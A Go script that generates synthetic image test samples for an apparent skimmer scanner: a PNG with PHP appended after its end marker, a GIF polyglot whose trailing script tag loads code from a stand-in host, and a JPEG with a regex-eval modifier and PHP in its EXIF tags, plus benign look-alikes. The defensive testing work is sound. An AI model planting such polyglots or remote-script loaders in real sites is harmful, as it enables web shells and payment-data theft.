//go:build ignore

// mksamples writes the binary test samples (images) under testdata/samples.
// Run from internal/scan: go run ./testdata/mksamples.go
// The samples are synthetic: their "payloads" are harmless strings shaped
// like the ones public reports describe.
package main

import (
	"bytes"
	"encoding/binary"
	"hash/crc32"
	"image"
	"image/color"
	"image/jpeg"
	"image/png"
	"log"
	"os"
	"path/filepath"
)

func main() {
	dir := filepath.Join("testdata", "samples")
	write := func(rule, name string, data []byte) {
		p := filepath.Join(dir, rule, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			log.Fatal(err)
		}
		if err := os.WriteFile(p, data, 0o644); err != nil {
			log.Fatal(err)
		}
	}

	pngBytes := encodePNG()
	// PHP appended after IEND: the image still renders, the server runs the tail
	// if it is ever included.
	write("image_embedded_code", "positive.png",
		append(append([]byte{}, pngBytes...), []byte("<?php /* synthetic */ if(isset($_POST['z'])){echo 'skimwatch test sample';} ?>\n")...))
	// GIF89a polyglot: a valid header followed by script.
	write("image_embedded_code", "positive-gif.gif",
		append([]byte("GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"),
			[]byte("\n<script>var s=document.createElement('script');s.src='//img-cdn.example/a.js';</script>\n")...))
	// Benign: a PNG with ordinary text chunks whose words come close.
	write("image_embedded_code", "benign.png", insertPNGText(pngBytes, map[string]string{
		"Software": "Adobe ImageReady",
		"Comment":  "evaluation copy - script font by Example Type Foundry",
	}))

	jpegBytes := encodeJPEG()
	write("image_exif_regex_eval", "positive.jpg", insertEXIF(jpegBytes, [][2]string{
		{"Make", "/.*/e"},
		{"Model", "echo 'skimwatch test sample';"},
	}))
	write("image_exif_regex_eval", "benign.jpg", insertEXIF(jpegBytes, [][2]string{
		{"Make", "Canon"},
		{"Model", "Canon EOS R5"},
		{"ImageDescription", "Shoes/Bags/Outerwear"},
	}))
}

func picture() image.Image {
	img := image.NewRGBA(image.Rect(0, 0, 16, 16))
	for y := 0; y < 16; y++ {
		for x := 0; x < 16; x++ {
			img.Set(x, y, color.RGBA{uint8(x * 16), uint8(y * 16), 128, 255})
		}
	}
	return img
}

func encodePNG() []byte {
	var b bytes.Buffer
	if err := png.Encode(&b, picture()); err != nil {
		log.Fatal(err)
	}
	return b.Bytes()
}

func encodeJPEG() []byte {
	var b bytes.Buffer
	if err := jpeg.Encode(&b, picture(), &jpeg.Options{Quality: 80}); err != nil {
		log.Fatal(err)
	}
	return b.Bytes()
}

// insertPNGText adds tEXt chunks just before IEND.
func insertPNGText(p []byte, kv map[string]string) []byte {
	iend := bytes.LastIndex(p, []byte("IEND")) - 4
	var chunks bytes.Buffer
	for _, k := range []string{"Software", "Comment"} {
		v, ok := kv[k]
		if !ok {
			continue
		}
		data := append(append([]byte(k), 0), v...)
		binary.Write(&chunks, binary.BigEndian, uint32(len(data)))
		body := append([]byte("tEXt"), data...)
		chunks.Write(body)
		binary.Write(&chunks, binary.BigEndian, crc32.ChecksumIEEE(body))
	}
	out := append([]byte{}, p[:iend]...)
	out = append(out, chunks.Bytes()...)
	return append(out, p[iend:]...)
}

var exifTags = map[string]uint16{"ImageDescription": 0x010e, "Make": 0x010f, "Model": 0x0110}

// insertEXIF adds an APP1 Exif segment with ASCII tags in IFD0 right after SOI.
func insertEXIF(j []byte, tags [][2]string) []byte {
	var tiff bytes.Buffer
	be := binary.BigEndian
	tiff.WriteString("MM\x00\x2a")
	binary.Write(&tiff, be, uint32(8))
	binary.Write(&tiff, be, uint16(len(tags)))
	dataOff := 8 + 2 + 12*len(tags) + 4
	var data bytes.Buffer
	for _, t := range tags {
		v := append([]byte(t[1]), 0)
		binary.Write(&tiff, be, exifTags[t[0]])
		binary.Write(&tiff, be, uint16(2)) // ASCII
		binary.Write(&tiff, be, uint32(len(v)))
		if len(v) <= 4 {
			pad := make([]byte, 4)
			copy(pad, v)
			tiff.Write(pad)
		} else {
			binary.Write(&tiff, be, uint32(dataOff+data.Len()))
			data.Write(v)
		}
	}
	binary.Write(&tiff, be, uint32(0))
	tiff.Write(data.Bytes())
	seg := append([]byte("Exif\x00\x00"), tiff.Bytes()...)
	var app1 bytes.Buffer
	app1.Write([]byte{0xff, 0xe1})
	binary.Write(&app1, be, uint16(len(seg)+2))
	app1.Write(seg)
	out := append([]byte{}, j[:2]...)
	out = append(out, app1.Bytes()...)
	return append(out, j[2:]...)
}
